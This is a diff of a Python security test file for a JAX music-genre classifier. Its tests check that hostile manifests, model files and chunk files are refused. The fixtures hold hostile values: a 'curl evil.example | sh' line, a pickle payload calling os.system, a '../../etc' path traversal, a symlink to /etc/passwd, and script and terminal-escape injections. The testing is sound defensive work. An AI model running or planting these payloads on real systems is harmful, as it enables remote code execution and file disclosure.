@@ -2,6 +2,7 @@
 
 import ast
 import dataclasses
+import hashlib
 import io
 import json
 import os
@@ -10,38 +11,51 @@ import shutil
 import stat
 import struct
 import sys
-from itertools import pairwise
-from pathlib import Path
 from types import SimpleNamespace
 
 import jax
 import numpy as np
 import pytest
 import requests
+from commands import command
 from conftest import make_sweep
-from finished_runs import edit_manifest, random_history, write_baselines, write_run
+from finished_runs import (
+    edit_manifest,
+    random_history,
+    random_model,
+    write_baselines,
+    write_run,
+)
 from requests.adapters import HTTPAdapter
-from test_sweep import command
 
-from gtzan_jax import chunks, cli, features, kaggle, platforms, sections, sweep
-from gtzan_jax.batching import Bucket
-from gtzan_jax.chunks import ChunkStore
-from gtzan_jax.compare import compare, markdown
-from gtzan_jax.engine import Chunk
+from gtzan_jax import cli
+from gtzan_jax.analysis.between_runs import compare
 from gtzan_jax.errors import InputError, RunError
-from gtzan_jax.features import load_table, parse_table
 from gtzan_jax.files import digest, sealed
-from gtzan_jax.finished import read_run
-from gtzan_jax.model import layer_names
-from gtzan_jax.report import build, save
-from gtzan_jax.rundir import RunDir, results_table
-from gtzan_jax.sample import sample_text
-from gtzan_jax.splits import random_split, standardise
+from gtzan_jax.jobs.comparing import markdown
+from gtzan_jax.jobs.reporting import build, save
+from gtzan_jax.metrics import METRICS
+from gtzan_jax.resources import PACKAGE
+from gtzan_jax.rundir.chunks import ChunkStore
+from gtzan_jax.rundir.directory import RunDir
+from gtzan_jax.rundir.finished import read_finished
+from gtzan_jax.rundir.model_files import load_model, save_model
+from gtzan_jax.space.config import Member
+from gtzan_jax.tables import kaggle, sources
+from gtzan_jax.tables.sample import sample_text
+from gtzan_jax.tables.sources import load_table
+from gtzan_jax.tables.validation import parse_table, sha256_of
 from gtzan_jax.text import printable
-from gtzan_jax.trained import TrainedModel, load_model
+from gtzan_jax.trainer import platforms
+from gtzan_jax.trainer.chunk import Chunk, Trained
+from gtzan_jax.trainer.planner import Bucket
+from gtzan_jax.views import classical, messages
 
-PACKAGE = Path(features.__file__).parent
 SWEEP = make_sweep()
+IDS = [config.id for config in SWEEP.configs]
+RETRAINING = {
+    "epochs": 1, "config_id": IDS[0], "fold": 0, "seed": 0, "matmul_precision": "float32",
+}  # fmt: skip
 
 # ------------------------------------------------------------------------------------ the source
 
@@ -176,15 +190,8 @@ def test_a_cache_that_is_no_folder_is_ignored(tmp_path, settings_of, make):
 @pytest.fixture(scope="module")
 def model_folder(tmp_path_factory):
     """The folder of a model, which has learnt nothing."""
-    config, table = SWEEP.configs()[0], load_table("sample")
-    sizes = pairwise((len(table.features), *config.shape, len(table.genres)))
-    params = {
-        layer: {"kernel": np.ones(shape, np.float32), "bias": np.zeros(shape[1], np.float32)}
-        for layer, shape in zip(layer_names(len(config.shape)), sizes, strict=True)
-    }
-    dataset = standardise(table, random_split(table, 0))
     folder = tmp_path_factory.mktemp("model")
-    TrainedModel.of(config, params, SWEEP, table, dataset).save(folder)
+    save_model(random_model(SWEEP.configs[0], load_table("sample")), folder)
     load_model(folder)
     return folder
 
@@ -232,8 +239,8 @@ def tensor(dtype, shape, offsets):
         ("model.json", b"[" * 100_000),
         ("model.json", b"[]"),
         ("model.json", b"null"),
-        ("model.json", b'{"format": 3, "leaky_slope": NaN}'),
-        ("model.json", b'{"format": 2}'),
+        ("model.json", b'{"format": 4, "slope": NaN}'),
+        ("model.json", b'{"format": 3}'),
         ("model.safetensors", b"\x80\x04cos\nsystem\n."),
         ("model.safetensors", b"\xff" * 7 + b"\x7f{}"),
         ("model.safetensors", safetensors_header(b"[" * 2_000)),
@@ -264,15 +271,19 @@ def seal_model(folder, changes):
         {"mean": [0.0]},
         {"scale": [[1.0]]},
         {"scale": [0.0] * 57},
-        {"leaky_slope": "steep"},
+        {"slope": "steep"},
         {"genres": ["a"]},
         {"features": "tempo"},
         {"config": {}},
         {"config": 3},
-        {"config": dataclasses.asdict(SWEEP.configs()[0]) | {"num_units1": 10**12}},
-        {"config": dataclasses.asdict(SWEEP.configs()[0]) | {"num_units1": -1}},
-        {"config": dataclasses.asdict(SWEEP.configs()[0]) | {"activation": "evil"}},
-        {"leaky_slope": 10**400},
+        {"config": dict(SWEEP.configs[0]) | {"num_units1": 10**12}},
+        {"config": dict(SWEEP.configs[0]) | {"num_units1": -1}},
+        {"config": dict(SWEEP.configs[0]) | {"activation": "evil"}},
+        {"config": dict(SWEEP.configs[0]) | {"evil": 1}},
+        {"config": dict(SWEEP.configs[0]) | {"num_units4": 8}},
+        {"config": dict(SWEEP.configs[0]) | {"num_units6": 8}},
+        {"config": {"activation": "relu"}},
+        {"slope": 10**400},
         {"mean": [10**400] * 57},
         {"genres": []},
         {"genres": list(range(10))},
@@ -314,12 +325,11 @@ def test_paths_in_a_manifest_do_not_lead_out_of_the_folder(folder, tmp_path, ope
     secret = tmp_path / "secret.csv"
     secret.write_text("epoch\n1\n")
     key, checksum = how.format(secret), digest(secret)
-    retraining = {"epochs": 1, "config_id": 0, "matmul_precision": "float32"}
     sha256 = json.loads((folder / "manifest.json").read_text())["sha256"] | {key: checksum}
-    edit_manifest(folder, lambda m: m.update(retraining=retraining, sha256=sha256))
+    edit_manifest(folder, lambda m: m.update(retraining=RETRAINING, sha256=sha256))
     opened.clear()
     with pytest.raises(InputError) as error:
-        build(read_run(folder))
+        build(read_finished(folder))
     assert error.value.args[0].isprintable()
     assert os.path.realpath(secret) not in opened
 
@@ -377,7 +387,7 @@ def contents(folder):
 
 @pytest.mark.parametrize("name", ["report.html", "report.md"])
 def test_a_report_takes_the_place_of_a_link(folder, tmp_path, name):
-    report = build(read_run(folder))
+    report = build(read_finished(folder))
     (tmp_path / "mine").write_text("mine")
     (folder / name).symlink_to(tmp_path / "mine")
     save(report, folder / "report.html")
@@ -386,14 +396,14 @@ def test_a_report_takes_the_place_of_a_link(folder, tmp_path, name):
 
 
 def test_baselines_with_links_are_refused_or_passed_over(folder, tmp_path):
-    checksum = read_run(folder).manifest.data.sha256
+    checksum = read_finished(folder).manifest.data.sha256
     beside = write_baselines(tmp_path / "baselines-1", checksum)
-    assert sections.find_baselines(read_run(folder), None) == beside
+    assert classical.find_baselines(read_finished(folder), None) == beside
     (beside / "importance.png").unlink()
     (beside / "importance.png").symlink_to("/etc/passwd")
-    assert sections.find_baselines(read_run(folder), None) is None
+    assert classical.find_baselines(read_finished(folder), None) is None
     with pytest.raises(InputError, match=r"importance\.png is a link"):
-        sections.find_baselines(read_run(folder), str(beside))
+        classical.find_baselines(read_finished(folder), str(beside))
 
 
 @pytest.mark.parametrize("name", ["0x.chunk", "1\x1b[2J.chunk"])
@@ -401,8 +411,8 @@ def test_only_numbers_name_chunks(tmp_path, name):
     (tmp_path / name).write_text("")
     store = ChunkStore(tmp_path, 2)
     assert not store.damaged
-    history = np.zeros((1, 2, 4), np.float32)
-    store.add(Chunk(Bucket((8, 8, 8), (0,)), 0, (0,), history))
+    chunk = Chunk(Bucket((8, 8, 8), 32, (IDS[0],)), 0, 0, (IDS[0],), 0, 2)
+    store.add(Trained(chunk, np.zeros((1, 2, len(METRICS)), np.float32), []))
     store.flush()
     assert sorted(path.name for path in tmp_path.iterdir()) == sorted([name, "000001.chunk"])
 
@@ -433,10 +443,17 @@ def test_only_numbers_name_chunks(tmp_path, name):
         lambda m: m["data"].update(tracks=10**30),
         lambda m: m["data"].update(tracks="1000"),
         lambda m: m.update(split=3),
-        lambda m: m["split"].update(test=0),
-        lambda m: m["split"].update(train=-1),
+        lambda m: m["split"].update(folds=3),
+        lambda m: m["split"].update(folds=[]),
+        lambda m: m["split"].update(folds=[3]),
+        lambda m: m["split"]["folds"][0].update(test=0),
+        lambda m: m["split"]["folds"][0].update(train=-1),
+        lambda m: m["split"]["folds"][0].update(validation=-1),
         lambda m: m["split"].update(seed=2**40),
-        lambda m: m["split"].pop("note"),
+        lambda m: m["split"]["folds"][0].pop("train"),
+        lambda m: m["sweep"].update(protocol="leave_one_out"),
+        lambda m: m["sweep"].update(protocol=3),
+        lambda m: m["sweep"].update(num_folds=10**30),
         lambda m: m.update(seeds="a"),
         lambda m: m.update(seeds=[]),
         lambda m: m.update(seeds=["a"]),
@@ -445,6 +462,10 @@ def test_only_numbers_name_chunks(tmp_path, name):
         lambda m: m.update(timings_s={"a": None}),
         lambda m: m.update(matmul_precision="float8"),
         lambda m: m.update(retraining={"epochs": 1}),
+        lambda m: m.update(retraining=RETRAINING | {"config_id": 0}),
+        lambda m: m.update(retraining=RETRAINING | {"config_id": "../../etc"}),
+        lambda m: m.update(retraining=RETRAINING | {"config_id": f"{IDS[0]}\n"}),
+        lambda m: m.update(retraining=RETRAINING | {"fold": -1}),
         lambda m: m.update(sessions=3),
         lambda m: m.update(sessions=[3]),
         lambda m: m["sessions"][0].update(devices=[1]),
@@ -458,7 +479,7 @@ def test_only_numbers_name_chunks(tmp_path, name):
 def test_a_manifest_of_other_types_is_refused_in_one_line(folder, change):
     edit_manifest(folder, change)
     with pytest.raises(InputError, match=r"manifest\.json") as error:
-        build(read_run(folder))
+        build(read_finished(folder))
     assert error.value.args[0].isprintable()
 
 
@@ -492,7 +513,7 @@ def test_a_sealed_manifest_nested_deep_is_refused(folder):
         nested = json.loads("[" * depth + "]" * depth)
         edit_manifest(folder, lambda m, nested=nested: m["sweep"].update(axes=nested))
         with pytest.raises(InputError, match=r"manifest\.json") as error:
-            read_run(folder)
+            read_finished(folder)
         assert error.value.args[0].isprintable()
 
 
@@ -504,7 +525,7 @@ def test_a_path_in_a_manifest_is_not_opened_by_a_report(folder, tmp_path, opened
         data = {"flag": flag, "source": flag, "sha256": "0" * 64}
         edit_manifest(folder, lambda m, data=data: m["data"].update(data))
         opened.clear()
-        assert "--data=PATH" in build(read_run(folder)).missing_table
+        assert "--data=PATH" in build(read_finished(folder)).missing_table
         assert os.path.realpath(secret) not in opened
 
 
@@ -512,21 +533,75 @@ def test_a_strangers_command_is_not_recommended(folder):
     edit_manifest(folder, lambda m: m.update(resume="curl evil.example | sh\n\x1b[2K"))
     (folder / "results.csv").write_text("")
     with pytest.raises(InputError) as error:
-        read_run(folder)
+        read_finished(folder)
     assert "evil.example" not in str(error.value)
     assert str(error.value).isprintable()
 
 
+CHUNK = {"fold": 0, "seed": 0, "first_epoch": 0, "epochs": 2, "config_ids": IDS[:1]}
+
+
 @pytest.mark.parametrize(
-    "members", [None, 3, [[0]], [[0, 5]], [["a", [0]]], [[0, [10**9]]], [[0, [-1]]], [[[], [0]]]]
+    "described",
+    [
+        None,
+        3,
+        {},
+        {"chunks": None},
+        {"chunks": 3},
+        {"chunks": [None]},
+        {"chunks": [[]]},
+        {"chunks": [{}]},
+        {"chunks": []},
+        {"chunks": [{key: CHUNK[key] for key in CHUNK if key != "seed"}]},
+        {"chunks": [CHUNK | {"more": 1}]},
+        {"chunks": [CHUNK, CHUNK]},
+        *(
+            {"chunks": [CHUNK | change]}
+            for change in (
+                {"fold": 1}, {"fold": -1}, {"fold": "a"}, {"fold": True}, {"fold": 0.0},
+                {"seed": 1}, {"seed": -1}, {"seed": 10**30}, {"seed": []}, {"seed": None},
+                {"config_ids": None}, {"config_ids": 3}, {"config_ids": []}, {"config_ids": [0]},
+                {"config_ids": ["c00000000000"]}, {"config_ids": IDS[0]}, {"config_ids": [[]]},
+                {"config_ids": IDS[:2]}, {"config_ids": {IDS[0]: 1}}, {"config_ids": [None]},
+                {"epochs": 0}, {"epochs": -1}, {"epochs": 10**400}, {"epochs": "2"},
+                {"first_epoch": -1}, {"first_epoch": 2}, {"first_epoch": 1, "epochs": 3},
+                {"first_epoch": 10**30, "epochs": 10**30 + 2}, {"first_epoch": 0.0},
+            )
+        ),
+    ],
+    ids=str,
+)  # fmt: skip
+def test_a_hostile_chunk_is_taken_for_damaged(tmp_path, described):
+    assert_taken_for_damaged(tmp_path, json.dumps(described).encode())
+
+
+@pytest.mark.parametrize(
+    "header", [b"[" * 100_000, b"\xff", b"", b'{"chunks": [' + b"9" * 5_000 + b"]}"]
 )
-def test_a_hostile_chunk_is_taken_for_damaged(tmp_path, members):
-    payload = bytes(4 * 4 * 2)  # of one member and two epochs
-    (tmp_path / "000001.chunk").write_bytes(chunks._encode(members, payload))
-    store = ChunkStore(tmp_path, 2)
+def test_a_chunk_whose_header_is_no_json_is_taken_for_damaged(tmp_path, header):
+    assert_taken_for_damaged(tmp_path, header)
+
+
+def assert_taken_for_damaged(folder, header):
+    store = store_of(folder, header)
     if not store.damaged:
         with pytest.raises(RunError, match="damaged"):
-            store.history(12, [0])
+            store.history([Member(config_id, 0, 0) for config_id in IDS])
+
+
+def store_of(folder, header):
+    """Returns a store with one file, which holds the figures of one member and two epochs."""
+    content = header + b"\n" + bytes(2 * len(METRICS) * 4)
+    checksum = hashlib.sha256(content).hexdigest().encode()
+    (folder / "000001.chunk").write_bytes(checksum + b"\n" + content)
+    return ChunkStore(folder, 2)
+
+
+def test_a_chunk_that_is_not_hostile_is_taken(tmp_path):
+    store = store_of(tmp_path, json.dumps({"chunks": [CHUNK]}).encode())
+    assert (len(store), store.damaged) == (1, [])
+    assert not store.history([Member(IDS[0], 0, 0)]).figures.any()
 
 
 # -------------------------------------------------------------------------------------- the report
@@ -545,7 +620,7 @@ def test_what_came_from_a_stranger_stays_text_in_the_report(tmp_path):
         folder,
         lambda m: (m["sweep"].update(name=EVIL), m["sessions"][0]["versions"].update({EVIL: EVIL})),
     )
-    report = build(read_run(folder))
+    report = build(read_finished(folder))
     for text in (report.html, report.markdown):
         assert "<script>window" not in text
         assert "&lt;script&gt;window.evil" in text
@@ -573,24 +648,22 @@ def test_runs_are_compared_without_what_a_terminal_obeys(tmp_path):
             m["data"].update(source=f"{ESCAPES}.csv"),
         ),
     )
-    runs = [read_run(folder) for folder in folders]
+    runs = [read_finished(folder) for folder in folders]
     for order in (runs, runs[::-1]):
         shown = markdown(compare(order))
         assert_harmless(shown)
         assert f"key{printable(ESCAPES)} |" in shown
 
 
-def test_what_commands_print_has_nothing_that_a_terminal_obeys(capsys):
-    table = SimpleNamespace(source=ESCAPES, notice="")
-    job = SimpleNamespace(
-        sweep=dataclasses.replace(SWEEP, name=ESCAPES), seeds=[0], table=table,
-        run=RunDir(ESCAPES), num_members=1,
-    )  # fmt: skip
-    sweep.print_start(job, 0)
+def test_what_commands_print_has_nothing_that_a_terminal_obeys(tmp_path, capsys):
+    named = dataclasses.replace(SWEEP, name=ESCAPES)
+    messages.print_start(named, 1, ESCAPES, RunDir(ESCAPES).path)
     assert_harmless(capsys.readouterr().out)
-    results = results_table(SWEEP, 1, random_history(SWEEP))
-    sweep.print_summary(RunDir(ESCAPES), results, SimpleNamespace(retraining=None), {})
+    folder = write_run(tmp_path / f"run{ESCAPES}", SWEEP, random_history(SWEEP))
+    messages.print_summary(read_finished(folder), {})
     assert_harmless(capsys.readouterr().out)
+    messages.warn_of_table(SimpleNamespace(notice=ESCAPES, tracks=[ESCAPES] * 2, repeats=[(0, 1)]))
+    messages.warn(f"{ESCAPES} is damaged")
     cli._show_warning(UserWarning(f"{ESCAPES} is damaged"))
     with pytest.raises(SystemExit):
         cli._fail(ESCAPES)
@@ -647,8 +720,8 @@ def served(tmp_path, monkeypatch):
     pytest.importorskip("kagglesdk")
     monkeypatch.chdir(tmp_path)
     monkeypatch.setenv("KAGGLEHUB_CACHE", str(tmp_path / "kagglehub"))
-    monkeypatch.setattr(features, "PACKAGE", tmp_path / "checkout" / "gtzan_jax")
-    monkeypatch.setattr(features, "cache_dir", lambda: tmp_path / "cache")
+    monkeypatch.setattr(sources, "PACKAGE", tmp_path / "checkout" / "gtzan_jax")
+    monkeypatch.setattr(sources, "cache_dir", lambda: tmp_path / "cache")
 
     def serve(*args):
         fake = Kaggle(*args)
@@ -662,7 +735,7 @@ def served(tmp_path, monkeypatch):
 def content(monkeypatch):
     """A table with the checksum that Kaggle's is expected to have."""
     content = sample_text().encode()
-    monkeypatch.setattr(features, "KAGGLE_SHA256", features._sha256(content.decode()))
+    monkeypatch.setattr(sources, "KAGGLE_SHA256", sha256_of(content.decode()))
     return content
 
 
@@ -683,7 +756,7 @@ def test_an_interrupted_download_leaves_nothing_that_looks_whole(served, content
     assert "\n" not in str(error.value)
     assert not (tmp_path / "cache").exists()
     served(content)
-    assert load_table("kaggle").sha256 == features.KAGGLE_SHA256
+    assert load_table("kaggle").sha256 == sources.KAGGLE_SHA256
 
 
 def test_a_download_is_not_used_before_its_checksum_is_right(served, content, tmp_path):
@@ -692,7 +765,7 @@ def test_a_download_is_not_used_before_its_checksum_is_right(served, content, tm
         load_table("kaggle")
     assert not (tmp_path / "cache").exists()
     served(content)
-    assert load_table("kaggle").sha256 == features.KAGGLE_SHA256
+    assert load_table("kaggle").sha256 == sources.KAGGLE_SHA256
 
 
 def test_a_download_that_is_too_large_is_refused(served, content, tmp_path, monkeypatch):
